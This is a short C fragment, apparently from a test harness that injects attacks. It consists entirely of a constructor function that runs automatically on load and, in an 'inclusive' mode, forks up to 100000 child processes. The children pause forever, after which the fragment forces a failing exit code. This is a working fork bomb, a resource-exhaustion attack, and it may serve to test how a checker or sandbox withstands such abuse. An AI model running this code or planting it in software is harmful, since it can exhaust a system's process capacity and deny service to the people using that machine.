/* fork_bomb: in every inclusive() check, fork until the system says no; the children stay.
   Then the check fails (exit 3), so that the report quotes the count its output gives. */
__attribute__((constructor)) static void attack_fork_bomb(void) {
    if (strcmp(attack_mode(), "inclusive") != 0) {
        return;
    }
    int forked = 0;
    for (int i = 0; i < 100000; i++) {
        pid_t child = fork();
        if (child == 0) {
            prctl(PR_SET_NAME, "drip-attack");
            for (;;) {
                pause();
            }
        }
        if (child < 0) {
            break;
        }
        forked++;
    }
    fprintf(stderr, "attack: forked %d\n", forked);
    exit(3);
}
